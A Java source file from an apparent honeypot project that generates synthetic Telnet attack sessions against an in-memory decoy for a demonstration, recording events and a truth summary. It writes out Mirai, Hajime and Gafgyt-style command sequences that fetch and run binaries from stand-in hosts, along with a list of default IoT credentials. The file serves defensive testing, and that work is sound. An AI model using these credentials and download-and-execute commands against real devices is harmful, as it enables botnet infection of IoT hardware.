package teiten.run;

import teiten.decoy.Counter;
import teiten.decoy.Counters;
import teiten.decoy.Evidence;
import teiten.decoy.Gate;
import teiten.decoy.House;
import teiten.decoy.Limits;
import teiten.decoy.LoginPolicy;
import teiten.decoy.VisitLog;
import teiten.decoy.device.Device;
import teiten.decoy.device.DeviceCatalog;
import teiten.decoy.telnet.TelnetConversation;
import teiten.net.IpAddress;
import teiten.session.Door;
import teiten.session.Event;
import teiten.session.EventJson;
import teiten.session.Payload;
import teiten.session.Recorder;
import teiten.session.Visit;

import tools.jackson.databind.json.JsonMapper;

import java.io.BufferedWriter;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Instant;
import java.time.InstantSource;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.TreeMap;

/// Sessions of known truth for the demonstration: made-up attackers talk to Teiten's own Telnet decoy, in memory, and
/// what the decoy writes down becomes one finished segment.
///
/// Nothing is connected and nothing is fetched. Sources lie in 240.0.0.0/4 and file hosts in 203.0.113.0/24, which
/// belong to nobody; the dialogues follow `conformance/`. The same seed gives the same bytes but for what the decoy's
/// shell takes from its own clock.
public final class DemoSessions {
    private static final String SENSOR = "decoy-tokyo";
    private static final IpAddress HERE = IpAddress.parse("192.0.2.23");
    private static final List<String> PASSWORDS =
            List.of(
                    "root:xc3511",
                    "root:vizxv",
                    "admin:admin",
                    "root:888888",
                    "root:juantech",
                    "support:support",
                    "root:123456",
                    "admin:password",
                    "user:user",
                    "root:klv123",
                    "root:Zte521",
                    "root:hi3518",
                    "guest:12345",
                    "root:anko",
                    "admin:1234");

    /// How Mirai's kin call a file for each CPU of the decoy's devices, and what Teiten calls the CPU.
    private static final Map<String, String> SUFFIX =
            Map.of(
                    "mips", "mips", "mipsel", "mpsl", "arm", "arm", "armv7", "arm7", "powerpc",
                    "ppc", "superh", "sh4", "x86-64", "x86");

    private static final Map<String, String> CPU =
            Map.of(
                    "mips", "mips", "mpsl", "mipsel", "arm", "arm", "arm7", "armv7", "ppc",
                    "powerpc", "sh4", "superh", "x86", "x86");

    private final SplittableRandom random;
    private final BufferedWriter out;
    private final Clock clock = new Clock();
    private final House house;
    private final Map<String, Integer> families = new TreeMap<>();
    private final Map<String, Integer> steps = new TreeMap<>();
    private final Map<String, Integer> tries = new TreeMap<>();
    private final Map<String, Integer> cpus = new TreeMap<>();
    private int sessions;

    private DemoSessions(long seed, BufferedWriter out) {
        this.random = new SplittableRandom(seed);
        this.out = out;
        Evidence evidence =
                new Evidence() {
                    @Override
                    public void record(Event event) {
                        write(event);
                    }

                    @Override
                    public void keep(String sha256, byte[] bytes) {}
                };
        this.house =
                new House(
                        SENSOR,
                        DeviceCatalog.bundled(seed),
                        LoginPolicy.ANY,
                        Limits.DEFAULT,
                        new Counters(),
                        evidence,
                        clock);
    }

    /// The time within the made-up world.
    private static final class Clock implements InstantSource {
        private Instant now = Instant.EPOCH;

        @Override
        public Instant instant() {
            return now;
        }
    }

    /// Writes `events-demo.jsonl` and, beside it, `events-demo.truth.json`: how many sessions came how far, of which
    /// family, which pairs were tried, which CPUs were meant.
    ///
    /// @param directory made when it does not exist
    /// @param first the first day, UTC
    public static void write(Path directory, long seed, LocalDate first, int days)
            throws IOException {
        Files.createDirectories(directory);
        Path aside = directory.resolve(".events-demo.part");
        DemoSessions demo;
        try (BufferedWriter out = Files.newBufferedWriter(aside, StandardCharsets.UTF_8)) {
            demo = new DemoSessions(seed, out);
            for (int day = 0; day < days; day++) {
                demo.day(first.plusDays(day).atStartOfDay().toInstant(ZoneOffset.UTC), day, days);
            }
        } catch (UncheckedIOException full) {
            throw full.getCause();
        }
        demo.house.close();
        Files.writeString(
                directory.resolve("events-demo.truth.json"),
                JsonMapper.builder()
                        .build()
                        .writerWithDefaultPrettyPrinter()
                        .writeValueAsString(
                                Map.of(
                                        "sessions", demo.sessions,
                                        "families", demo.families,
                                        "furthest", demo.steps,
                                        "tries", demo.tries,
                                        "cpus", demo.cpus)));
        Files.move(
                aside,
                directory.resolve("events-demo.jsonl"),
                StandardCopyOption.ATOMIC_MOVE,
                StandardCopyOption.REPLACE_EXISTING);
    }

    private void write(Event event) {
        try {
            out.write(EventJson.write(event));
            out.write('\n');
        } catch (IOException full) {
            throw new UncheckedIOException(full);
        }
    }

    private void day(Instant midnight, int day, int days) {
        double grown = (double) day / days;
        for (int i = 0; i < 4 + random.nextInt(5); i++) {
            knock(at(midnight));
        }
        for (int i = 0; i < 3 + random.nextInt(4); i++) {
            guess(at(midnight));
        }
        int loaders = 1 + random.nextInt(2 + (int) (4 * grown));
        for (int i = 0; i < loaders; i++) {
            attack(at(midnight));
        }
        if (random.nextInt(3) > 0) {
            hajime(at(midnight));
        }
        if (random.nextInt(2) == 0) {
            gafgyt(at(midnight));
        }
        if (random.nextInt(4) == 0) {
            written(at(midnight));
        }
        if (random.nextInt(3) == 0) {
            hold(at(midnight), source(), pair(), List.of("uname -a", "ls /", "exit"));
            known("unknown", "shell");
        }
    }

    private Instant at(Instant midnight) {
        return midnight.plusSeconds(random.nextInt(82_000)).plusMillis(random.nextInt(1_000));
    }

    /// Attackers come from few networks and come again.
    private IpAddress source() {
        int host = random.nextInt(random.nextInt(4) == 0 ? 4_000 : 150);
        return IpAddress.v4(0xF0000000 | (host * 0x9E3779B1 >>> 6 & 0x00FFFF00) | 1 + host % 254);
    }

    private String pair() {
        // A few pairs are tried much more often than the rest.
        int rank = (int) (PASSWORDS.size() * Math.pow(random.nextDouble(), 2));
        return PASSWORDS.get(rank);
    }

    private String fileHost() {
        return "203.0.113." + (10 + random.nextInt(12));
    }

    private void known(String family, String step) {
        sessions++;
        families.merge(family, 1, Integer::sum);
        steps.merge(step, 1, Integer::sum);
    }

    private void knock(Instant at) {
        Recorder recorder = recorder(at, source());
        recorder.connected();
        clock.now = clock.now.plusSeconds(3);
        recorder.closed("closed");
        known("unknown", "knock");
    }

    /// Up to three pairs, all refused. It is told without the decoy, which makes who fails wait.
    private void guess(Instant at) {
        Recorder recorder = recorder(at, source());
        Device device = house.meets(recorder.visit().source());
        recorder.connected();
        int n = 1 + random.nextInt(3);
        for (int i = 0; i < n; i++) {
            String pair = pair();
            String user = pair.substring(0, pair.indexOf(':'));
            String password = pair.substring(user.length() + 1) + random.nextInt(10);
            recorder.output(Payload.ofText(device.hostname() + " login: "));
            typed(recorder, user);
            recorder.output(Payload.ofText(user + "\r\nPassword: "));
            typed(recorder, password);
            recorder.loginTry(user, password, true);
            clock.now = clock.now.plusSeconds(2);
            recorder.output(Payload.ofText("\r\nLogin incorrect\r\n"));
            tries.merge(user + ":" + password, 1, Integer::sum);
        }
        recorder.closed("closed");
        known("unknown", "login-try");
    }

    private void typed(Recorder recorder, String line) {
        clock.now = clock.now.plusMillis(200 + random.nextInt(700));
        recorder.input(Payload.ofText(line + "\r\n"));
    }

    private Recorder recorder(Instant at, IpAddress source) {
        clock.now = at;
        int port = 1024 + random.nextInt(60_000);
        Visit visit =
                Visit.open(
                        SENSOR,
                        source,
                        port,
                        Door.TELNET,
                        HERE,
                        23,
                        house.meets(source).name(),
                        at);
        return new Recorder(visit, clock, this::write);
    }

    /// A Mirai bot finds the password and leaves; its loader comes with that password some minutes later, reads the
    /// CPU from an ELF header and fetches the file for it.
    private void attack(Instant at) {
        String pair = pair();
        hold(at, source(), pair, List.of("enable", "system", "shell", "sh", "/bin/busybox MIRAI"));
        known("mirai", "shell");
        IpAddress loader = IpAddress.v4(0xF0A00000 | 1 + random.nextInt(9));
        String suffix = SUFFIX.getOrDefault(house.meets(loader).machine().label(), "x86");
        String host = fileHost();
        String query = "; /bin/busybox ECCHI";
        hold(
                at.plusSeconds(60 + random.nextInt(900)),
                loader,
                pair,
                List.of(
                        "enable",
                        "shell",
                        "sh",
                        "/bin/busybox ps" + query,
                        "/bin/busybox cat /proc/mounts" + query,
                        "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon;"
                                + " /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon",
                        "cd /tmp",
                        "/bin/busybox dd bs=52 count=1 if=/bin/echo" + query,
                        "/bin/busybox wget; /bin/busybox tftp" + query,
                        "/bin/busybox wget http://"
                                + host
                                + ":80/bins/mirai."
                                + suffix
                                + " -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper"
                                + query,
                        "./dvrHelper telnet." + suffix + ".wget" + query,
                        "rm -rf upnp; > dvrHelper" + query));
        known("mirai", "download");
        cpu(suffix);
    }

    private void hajime(Instant at) {
        StringBuilder token = new StringBuilder();
        for (int i = 0; i < 5; i++) {
            token.append((char) ('A' + random.nextInt(26)));
        }
        String query = "; /bin/busybox " + token;
        hold(
                at,
                source(),
                pair(),
                List.of(
                        "enable",
                        "shell",
                        "sh",
                        "cat /proc/mounts" + query,
                        "cd /var; (cat .s || cp /bin/echo .s)" + query,
                        "nc; wget" + query,
                        "(dd bs=52 count=1 if=.s || cat .s)",
                        "/bin/busybox " + token,
                        "rm .s; wget http://"
                                + fileHost()
                                + ":"
                                + (20_000 + random.nextInt(40_000))
                                + "/.i; chmod +x .i; ./.i; exit"));
        known("hajime", "download");
    }

    /// One line that fetches a file for every CPU, one after the other.
    private void gafgyt(Instant at) {
        String host = fileHost();
        StringBuilder line = new StringBuilder("cd /tmp || cd /var/run || cd /mnt || cd /root; ");
        for (String suffix : List.of("mips", "mpsl", "arm", "arm7", "sh4", "ppc", "x86")) {
            line.append("wget http://")
                    .append(host)
                    .append("/axis.")
                    .append(suffix)
                    .append("; chmod 777 axis.")
                    .append(suffix)
                    .append("; ./axis.")
                    .append(suffix)
                    .append("; ");
            cpu(suffix);
        }
        hold(
                at,
                source(),
                pair(),
                List.of("sh", "echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'", line + "rm -rf axis.*"));
        known("gafgyt", "download");
    }

    /// Writes the beginning of an ELF file byte by byte; what it writes is a header and nothing that runs.
    private void written(Instant at) {
        IpAddress source = source();
        boolean big = random.nextBoolean();
        String header =
                big
                        ? "\\x7f\\x45\\x4c\\x46\\x01\\x02\\x01\\x00"
                        : "\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00";
        String machine = big ? "\\x00\\x02\\x00\\x08" : "\\x02\\x00\\x28\\x00";
        hold(
                at,
                source,
                pair(),
                List.of(
                        "sh",
                        "/bin/busybox SORA",
                        "cd /tmp; echo -ne \"" + header + "\" > .d; /bin/busybox SORA",
                        "echo -ne \"\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00"
                                + machine
                                + "\" >> .d; /bin/busybox SORA",
                        "chmod 777 .d; ./.d; exit"));
        known("mirai", "sample");
        cpu(big ? "mips" : "arm");
    }

    private void cpu(String suffix) {
        cpus.merge(CPU.getOrDefault(suffix, suffix), 1, Integer::sum);
    }

    /// One whole conversation with the decoy.
    private void hold(Instant at, IpAddress source, String pair, List<String> lines) {
        clock.now = at;
        String user = pair.substring(0, pair.indexOf(':'));
        String password = pair.substring(user.length() + 1);
        tries.merge(pair, 1, Integer::sum);
        Device device = house.meets(source);
        Gate.Pass pass = house.gate().admit(source, () -> {});
        if (pass == null) {
            throw new IllegalStateException("the demonstration's decoy is full");
        }
        VisitLog log =
                house.visit(
                        Door.TELNET,
                        device,
                        new House.Peer(source, 1024 + random.nextInt(60_000), HERE, 23));
        Typist typist = new Typist(user, password, lines);
        Counter how = Counter.CLOSED_BY_VISITOR;
        try {
            how =
                    TelnetConversation.hold(
                            new House.Caller(
                                    house,
                                    log,
                                    device,
                                    pass,
                                    typist,
                                    OutputStream.nullOutputStream()));
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        } finally {
            log.close(pass.leave(how).reason());
        }
    }

    /// The made-up attacker's end: one line a read, with the time that it takes to type it.
    private final class Typist extends InputStream {
        private final List<String> lines = new java.util.ArrayList<>();
        private byte[] line = new byte[0];
        private int at;

        Typist(String user, String password, List<String> commands) {
            lines.add(user);
            lines.add(password);
            lines.addAll(commands);
        }

        @Override
        public int read() {
            byte[] one = new byte[1];
            return read(one, 0, 1) < 0 ? -1 : one[0] & 0xFF;
        }

        @Override
        public int read(byte[] bytes, int offset, int length) {
            if (at == line.length) {
                if (lines.isEmpty()) {
                    return -1;
                }
                clock.now = clock.now.plusMillis(150 + random.nextInt(900));
                line = (lines.removeFirst() + "\r\n").getBytes(StandardCharsets.ISO_8859_1);
                at = 0;
            }
            int n = Math.min(length, line.length - at);
            System.arraycopy(line, at, bytes, offset, n);
            at += n;
            return n;
        }
    }
}
